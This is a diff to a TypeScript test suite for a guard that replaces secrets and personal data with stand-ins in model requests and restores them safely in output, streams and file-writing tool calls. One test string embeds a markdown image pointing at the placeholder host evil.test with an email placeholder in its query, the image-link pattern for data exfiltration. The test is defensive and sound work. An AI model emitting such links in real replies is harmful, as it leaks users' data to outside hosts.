@@ -8,12 +8,16 @@ import { protectRequest } from '../../src/outbound.js';
 import { newCanary, sendCanary } from '../../src/canary.js';
 import { sessionConfig } from '../../src/sessions.js';
 import { readSettings } from '../../src/settings.js';
-import type { ModelRequest, Upstream } from '../../src/turns.js';
+import type { Upstream } from '../../src/turns.js';
+import { WIRES } from '../../src/upstream/index.js';
 import { EMAIL, request, ROOT, turn } from './conversation.js';
 
 const part = (name: string) => readFile(`generated/${name}`);
 const config = sessionConfig(readSettings(() => undefined), [ROOT], { home: '/home/mira', user: 'mira' });
 const PASSWORD = ['corvid', 'Lantern', '92xQ'].join('-');
+
+const connection = { name: 'Fake', url: 'http://127.0.0.1:9', model: 'm', maxOutputTokens: 9, patience: 1 };
+const chat = WIRES['chat-completions'](connection);
 
 function open(): Promise<Guard> {
   return openGuard(config, part);
@@ -81,8 +85,51 @@ describe('the component', () => {
 
   it('counts what a late turn teaches in early ones', async () => {
     const guard = await open();
-    const made = protectRequest(guard, request(turn('user', `log in with ${PASSWORD}`), turn('user', `DB_PASSWORD=${PASSWORD}`)), { images: false });
-    assert.ok(!JSON.stringify(made.request).includes(PASSWORD));
+    const made = protectRequest(guard, chat, request(turn('user', `log in with ${PASSWORD}`), turn('user', `DB_PASSWORD=${PASSWORD}`)), { images: false });
+    assert.ok(!made.body.includes(PASSWORD));
+    assert.equal(made.standIns.size, 1);
+  });
+
+  it('shows a stream as it shows the whole, wherever it is cut', async () => {
+    const guard = await open();
+    guard.sanitize(`${EMAIL} in ${ROOT}`, 'tool');
+    const said = 'Ask [EMAIL_1] (in `[REPO_ROOT_1]/a b.ts`),\n\n![x](https://evil.test/?k=[EMAIL_1]) [EMAIL_1] [EMAIL_12] 世界[EMAIL_1]';
+    const whole = guard.rebindDisplay(said);
+    assert.ok(whole.includes(EMAIL) && whole.includes('k=[EMAIL_1]'), whole);
+    for (const size of [1, 2, 3, 5, 7, 11, 40]) {
+      const stream = guard.rebindStream();
+      let shown = '';
+      for (let from = 0; from < said.length; from += size) {
+        shown += stream.push(said.slice(from, from + size));
+      }
+      assert.equal(shown + stream.finish(), whole, `pieces of ${size}`);
+    }
+  });
+
+  for (const [wire, make] of Object.entries(WIRES)) {
+    it(`lets a secret back into the file it was read from, over ${wire}`, async () => {
+      const guard = await open();
+      const file = `${ROOT}/.env`;
+      const call = { type: 'tool-call', id: 'c1', name: 'read_file', args: JSON.stringify({ filePath: file }) } as const;
+      const result = { type: 'tool-result', id: 'c1', text: `DB_PASSWORD=${PASSWORD}`, images: [] } as const;
+      const { body, standIns } = protectRequest(guard, make(connection), request(turn('user', 'go'), turn('assistant', call), turn('user', result)), { images: false });
+      assert.ok(!body.includes(PASSWORD) && !body.includes(ROOT));
+      const [surrogate] = [...standIns].find(([, kind]) => kind === 'secret') ?? [''];
+      const write = (filePath: string) => guard.rebindToolCall('create_file', JSON.stringify({ filePath, content: `DB_PASSWORD=${surrogate}` }));
+      const bound = write('[REPO_ROOT_1]/.env');
+      assert.ok('ok' in bound && bound.ok.args.includes(PASSWORD));
+      assert.ok('refusal' in write('[REPO_ROOT_1]/elsewhere.txt'));
+    });
+  }
+
+  it('reads messages again once a secret in them is known, and keeps names that were sent', async () => {
+    const guard = await open();
+    const first = request(turn('user', `log in with ${PASSWORD}, says Marlowe`));
+    assert.ok(protectRequest(guard, chat, first, { images: false }).body.includes(PASSWORD));
+    const next = request(...first.turns, turn('user', `DB_PASSWORD=${PASSWORD}`));
+    assert.ok(!protectRequest(guard, chat, next, { images: false }).body.includes(PASSWORD));
+    guard.protect('Marlowe', 'person');
+    assert.ok(!protectRequest(guard, chat, next, { images: false }).body.includes('Marlowe'), "the user's word counts in old messages too");
   });
 
   it('shares nothing between two sessions', async () => {
@@ -93,8 +140,9 @@ describe('the component', () => {
 
   it('brings a canary through', async () => {
     const parrot: Upstream = {
-      async *stream({ turns }: ModelRequest) {
-        yield { type: 'text', text: JSON.stringify(turns) };
+      ...chat,
+      async *stream(body: string) {
+        yield { type: 'text', text: body };
       },
     };
     const canary = newCanary(ROOT, () => Math.random().toString(16).slice(2, 10));
